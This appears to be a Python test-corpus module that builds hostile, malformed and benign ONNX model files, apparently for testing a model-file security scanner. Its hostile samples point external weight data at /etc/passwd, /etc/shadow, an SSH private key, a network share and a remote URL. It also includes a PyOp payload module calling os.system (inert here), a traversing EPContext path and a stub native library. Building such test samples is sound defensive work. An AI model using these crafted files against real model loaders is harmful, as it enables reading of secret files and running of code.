"""ONNX: external data that lies elsewhere, operators that leave the runtime, and ordinary graphs."""

import json
import struct
from collections.abc import Mapping
from types import MappingProxyType

from tests.corpus.labelled import benign, hostile, malformed
from tests.corpus.protobuf_writer import Value, message
from tests.corpus.sample import Sample

FAMILY = "onnx"
FLOAT, INT8 = 1, 3
VERSIONS = {"": 17, "ai.onnx.ml": 3}


def tensor(name: str, shape: tuple[int, ...] = (4,), data: bytes = bytes(16), kind: int = FLOAT) -> bytes:
    """A TensorProto that holds its data."""
    return message(*((1, size) for size in shape), (2, kind), (8, name), (9, data))


def external(name: str, *pairs: tuple[str, str], shape: tuple[int, ...] = (4,)) -> bytes:
    """A TensorProto whose data lies where the pairs say."""
    entries = ((13, message((1, key), (2, value))) for key, value in pairs)
    return message(*((1, size) for size in shape), (2, FLOAT), (8, name), *entries, (14, 1))


def value(name: str, kind: int = FLOAT) -> bytes:
    """A ValueInfoProto of four numbers."""
    shape = message((1, message((1, 4))))
    return message((1, name), (2, message((1, message((1, kind), (2, shape))))))


def attribute(name: str, content: str | int | bytes, kind: str) -> tuple[int, Value]:
    """One attribute of a node: `kind` is `text`, `int`, `tensor` or `graph`."""
    number, code = {"text": (4, 3), "int": (3, 2), "tensor": (5, 4), "graph": (6, 5)}[kind]
    return 5, message((1, name), (number, content), (20, code))


def node(
    op: str,
    inputs: tuple[str, ...] = ("x", "w"),
    output: str = "y",
    *,
    domain: str = "",
    attributes: tuple[tuple[int, Value], ...] = (),
) -> bytes:
    """A NodeProto."""
    kept = [(7, domain)] if domain else []
    return message(*((1, one) for one in inputs), (2, output), (3, op.lower()), (4, op), *attributes, *kept)


def graph(*nodes: bytes, weights: tuple[bytes, ...] = (), name: str = "main") -> bytes:
    """A GraphProto from x to y."""
    return message(
        *((1, one) for one in nodes), (2, name), *((5, one) for one in weights), (11, value("x")), (12, value("y"))
    )


def model(content: bytes, *more: tuple[int, Value], domains: tuple[str, ...] = ("",)) -> bytes:
    """A ModelProto."""
    sets = ((8, message((1, domain), (2, VERSIONS.get(domain, 1)))) for domain in domains)
    return message((1, 8), (2, "pytorch"), (3, "2.4.0"), (7, content), *sets, *more)


ADD = node("Add")
W = tensor("w")


def evil(
    name: str, content: bytes, note: str, source: str = "", beside: Mapping[str, bytes] = MappingProxyType({})
) -> Sample:
    """A hostile ONNX file."""
    return hostile("onnx-" + name, FAMILY, {"model.onnx": content, **beside}, note, source)


def elsewhere(name: str, location: str, note: str, source: str = "CVE-2024-27318") -> Sample:
    """A model whose weight is a file outside its directory."""
    return evil(name, model(graph(ADD, weights=(external("w", ("location", location)),))), note, source)


IF_BRANCH = graph(
    node("Identity", ("w",)), weights=(external("w", ("location", "../../../../etc/passwd")),), name="then"
)
CONDITIONAL = node("If", ("x",), attributes=(attribute("then_branch", IF_BRANCH, "graph"),))
HIDDEN = node(
    "Constant", (), "w", attributes=(attribute("value", external("v", ("location", "/etc/hostname")), "tensor"),)
)
FUNCTION = message(
    (1, "Block"), (4, "x"), (5, "y"), (7, HIDDEN), (7, ADD), (9, message((1, ""), (2, 17))), (10, "local")
)
HOSTILE = (
    elsewhere("data-parent", "../../../../../../etc/passwd", "A weight read from /etc/passwd.", "CVE-2022-25882"),
    elsewhere("data-absolute", "/home/user/.ssh/id_rsa", "A weight read from a private key."),
    elsewhere("data-inner-parent", "weights/../../../../etc/shadow", "Begins inside, then climbs out."),
    elsewhere("data-windows", "..\\..\\..\\Windows\\win.ini", "Climbs with the other system's separators."),
    elsewhere("data-drive", "C:\\Users\\Public\\keys.bin", "An absolute path of the other system."),
    elsewhere("data-share", "\\\\203.0.113.50\\share\\w.bin", "A network share: opening it hands over a login."),
    elsewhere("data-url", "https://203.0.113.50/w.bin", "A location that is no file at all."),
    elsewhere("data-nul", "weights.bin\0/../../../etc/passwd", "A NUL hides the rest of the path from C."),
    evil(
        "data-two-locations",
        model(graph(ADD, weights=(external("w", ("location", "w.bin"), ("location", "../../../etc/passwd")),))),
        "The last of two locations wins in a map, the first in a search.",
        beside={"w.bin": bytes(16)},
    ),
    evil(
        "data-in-branch",
        model(graph(CONDITIONAL)),
        "The weight from /etc/passwd is inside a branch of an If.",
        "CVE-2024-27318",
    ),
    evil("data-in-attribute", model(graph(HIDDEN, ADD)), "It is the attribute of a Constant node.", "CVE-2024-27318"),
    evil(
        "data-in-function",
        model(graph(node("Block", ("x",), domain="local"), weights=(W,)), (25, FUNCTION), domains=("", "local")),
        "It is in the body of a function of the model.",
        "CVE-2024-27318",
    ),
    evil(
        "py-op",
        model(
            graph(
                node(
                    "PyOp",
                    domain="pyopmulti_1",
                    attributes=(
                        attribute("module", "payload", "text"),
                        attribute("class_name", "Run", "text"),
                        attribute("compute", "compute", "text"),
                    ),
                ),
                weights=(W,),
            ),
            domains=("", "pyopmulti_1"),
        ),
        "The runtime's Python operator: imports a module and calls its class.",
        beside={"payload.py": b"import os\nclass Run:\n    def compute(self, x):\n        os.system('echo inert')\n"},
    ),
    evil(
        "context-path",
        model(
            graph(
                node(
                    "EPContext",
                    ("x",),
                    domain="com.microsoft",
                    attributes=(
                        attribute("embed_mode", 0, "int"),
                        attribute("ep_cache_context", "../../../../tmp/context.bin", "text"),
                    ),
                )
            ),
            domains=("", "com.microsoft"),
        ),
        "A compiled context that is loaded from outside the directory.",
    ),
    evil(
        "custom-library",
        model(graph(node("Decrypt", domain="ai.private"), weights=(W,)), domains=("", "ai.private")),
        "An operator of a private domain, and the library for it that the reader is to load.",
        beside={"libcustom_ops.so": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)},
    ),
)
BROKEN = (
    malformed(
        "onnx-cut",
        FAMILY,
        {"model.onnx": model(graph(ADD, weights=(tensor("w", (400,), bytes(1600)),)))[:-900]},
        "The download stopped inside the graph.",
    ),
    malformed(
        "onnx-length-lie",
        FAMILY,
        {"model.onnx": message((1, 8), (2, "x")) + b"\x3a\xff\xff\xff\xff\x7f" + bytes(20)},
        "A graph of 34 GB in 30 bytes.",
    ),
    malformed(
        "onnx-data-negative",
        FAMILY,
        {
            "model.onnx": model(
                graph(ADD, weights=(external("w", ("location", "w.bin"), ("offset", "-16"), ("length", "16")),))
            ),
            "w.bin": bytes(16),
        },
        "A negative offset into external data.",
    ),
    malformed(
        "onnx-data-past-end",
        FAMILY,
        {
            "model.onnx": model(
                graph(ADD, weights=(external("w", ("location", "w.bin"), ("offset", "0"), ("length", "4096")),))
            ),
            "w.bin": bytes(16),
        },
        "More external data than the file has.",
    ),
)


def good(name: str, content: bytes, note: str, beside: Mapping[str, bytes] = MappingProxyType({})) -> Sample:
    """An ordinary ONNX file."""
    return benign("onnx-" + name, FAMILY, {"model.onnx": content, **beside}, note)


BRANCH = graph(node("Identity", ("x",)), name="else")
BENIGN = (
    good("plain", model(graph(node("MatMul", output="h"), node("Relu", ("h",)), weights=(W,))), "Two operators."),
    good(
        "external-sibling",
        model(graph(ADD, weights=(external("w", ("location", "model.onnx_data"), ("offset", "0"), ("length", "16")),))),
        "Weights in the file beside it.",
        beside={"model.onnx_data": bytes(16)},
    ),
    good(
        "external-folder",
        model(graph(ADD, weights=(external("w", ("location", "data/w.bin")),))),
        "Weights in a folder below.",
        beside={"data/w.bin": bytes(16)},
    ),
    good(
        "branches",
        model(
            graph(
                node(
                    "If",
                    ("x",),
                    attributes=(attribute("then_branch", BRANCH, "graph"), attribute("else_branch", BRANCH, "graph")),
                )
            )
        ),
        "Control flow.",
    ),
    good(
        "function",
        model(
            graph(node("Block", ("x", "w"), domain="pkg.torch"), weights=(W,)),
            (
                25,
                message(
                    (1, "Block"),
                    (4, "x"),
                    (4, "w"),
                    (5, "y"),
                    (7, ADD),
                    (9, message((1, ""), (2, 17))),
                    (10, "pkg.torch"),
                ),
            ),
            domains=("", "pkg.torch"),
        ),
        "An operator of its own that the model defines itself, as exporters of modules do.",
    ),
    good(
        "runtime-fused",
        model(
            graph(node("SkipLayerNormalization", domain="com.microsoft"), weights=(W,)), domains=("", "com.microsoft")
        ),
        "Fused by the runtime's optimiser.",
    ),
    good(
        "classic-learners",
        model(
            graph(
                node("TreeEnsembleClassifier", ("x",), domain="ai.onnx.ml"),
                node("LabelEncoder", ("x",), domain="ai.onnx.ml"),
            ),
            domains=("", "ai.onnx.ml"),
        ),
        "Converted from scikit-learn.",
    ),
    good(
        "quantised",
        model(
            graph(
                node("DequantizeLinear", ("w", "s", "z"), "d"),
                node("Add", ("x", "d")),
                weights=(
                    tensor("w", (4,), bytes(4), INT8),
                    tensor("s", (), struct.pack("<f", 0.1)),
                    tensor("z", (), b"\0", INT8),
                ),
            )
        ),
        "8-bit weights.",
    ),
    good(
        "detector-metadata",
        model(
            graph(ADD, weights=(W,)),
            (14, message((1, "names"), (2, "{0: 'person', 1: 'bicycle'}"))),
            (14, message((1, "license"), (2, "AGPL-3.0 License (https://example.org/license)"))),
            (14, message((1, "imgsz"), (2, json.dumps([640, 640])))),
        ),
        "The properties that a detector's exporter writes.",
    ),
)
SAMPLES = (*HOSTILE, *BROKEN, *BENIGN)
